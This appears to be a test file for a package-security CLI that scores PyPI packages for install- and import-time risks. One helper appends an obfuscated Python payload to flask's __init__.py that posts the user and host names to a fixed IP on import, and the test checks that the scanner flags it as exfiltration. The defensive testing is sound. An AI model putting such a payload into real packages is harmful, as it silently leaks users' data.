  it('evidence saved before nerq read wheels re-scores with startup-hooks and import-time-code unknown', async () => {
    const file = path.join(evidenceDir, 'flask.json');
    const saved = JSON.parse(readFileSync(file, 'utf8')) as { sources: { pypi: { facts: Record<string, unknown> } } };
    delete saved.sources.pypi.facts.wheelContents;
    const old = path.join(evidenceDir, 'flask-old.json');
    writeFileSync(old, JSON.stringify(saved));
    const rescored = await runCli(['score', old, '--json']);
    expect(rescored.code).toBe(0);
    const again = parseReport(rescored.stdout);
    expect(checkOf(again, 'startup-hooks')).toMatchObject({ score: null, messageId: 'unread' });
    expect(checkOf(again, 'import-time-code')).toMatchObject({ score: null, messageId: 'unread' });
    expect(again.verdict).toBe('YES');
  });
});

/**
 * flask's recorded wheel, every entry as published but `flask/__init__.py`, whose real text gets
 * a payload appended (an edit, in the shape of the tenserflow and python-mysql uploads in
 * fixtures/import-code/guarddog/exfiltrate-sensitive-data.py): the user and host names posted
 * to a server the moment `import flask` runs.
 */
function flaskWithPayload(): Buffer {
  const real = readFileSync(new URL('../../fixtures/http/pypi-files/packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl', import.meta.url));
  const location = locateCentralDirectory(real, real.length);
  if (!location.ok) throw new Error(location.reason);
  const listed = centralDirectoryEntries(real.subarray(location.value.offset, location.value.offset + location.value.size), 1000);
  if (!listed.ok) throw new Error(listed.reason);
  const inputs = listed.value.map((entry) => {
    const local = real.subarray(entry.localHeaderOffset);
    const start = localDataStart(local);
    if (!start.ok) throw new Error(start.reason);
    const raw = local.subarray(start.value, start.value + entry.compressedSize);
    const data = entry.method === 8 ? inflateRawSync(raw) : raw;
    if (entry.name !== 'flask/__init__.py') return { name: entry.name, data };
    const payload = [
      'import getpass as _g, socket as _s, json as _j, urllib.request as _u',
      'def _p():',
      '    data = {"user": _g.getuser(), "host": _s.gethostname()}',
      '    _u.urlopen(_u.Request("http://198.51.100.7/c", data=_j.dumps(data).encode()))',
      'try:',
      '    _p()',
      'except Exception:',
      '    pass',
    ].join('\n');
    return { name: entry.name, data: `${data.toString('utf8')}\n${payload}\n` };
  });
  return makeZip(inputs);
}

describe('pypi:flask whose __init__.py sends the user and host names on import (an edit of its recorded wheel)', () => {
  const FLASK_WHEEL = 'packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl';

  it('import-time-code scores 0 and holds the verdict at CAUTION (flask is YES otherwise); startup-hooks stays 100', async () => {
    requireBuiltCli();
    const server = await startFixtureServer();
    try {
      expectPypiProject(server, pypiProject('flask'));
      const files = servePypiFiles(server, { files: { [FLASK_WHEEL]: flaskWithPayload() } });
      const result = await runCli(['check', 'pypi:flask', '--json'], { server, env: files });
      const report = parseReport(result.stdout);
      expect(checkOf(report, 'import-time-code')).toMatchObject({ score: 0, messageId: 'hostile', evidence: { flagged: ['flask/__init__.py'], flags: ['exfiltration', 'ip-endpoint'] } });
      expect(checkOf(report, 'startup-hooks')).toMatchObject({ score: 100, messageId: 'none', evidence: { entries: 31 } });
      expect(report.verdict).toBe('CAUTION');
      expect(report.verdictReasonDetails.map((r) => r.code)).toContain('verdict-held');
      expect(result.code).toBe(0);
      expectNoUnexpected(server);
    } finally {
      await server.close();
    }
  }, 60_000);
});
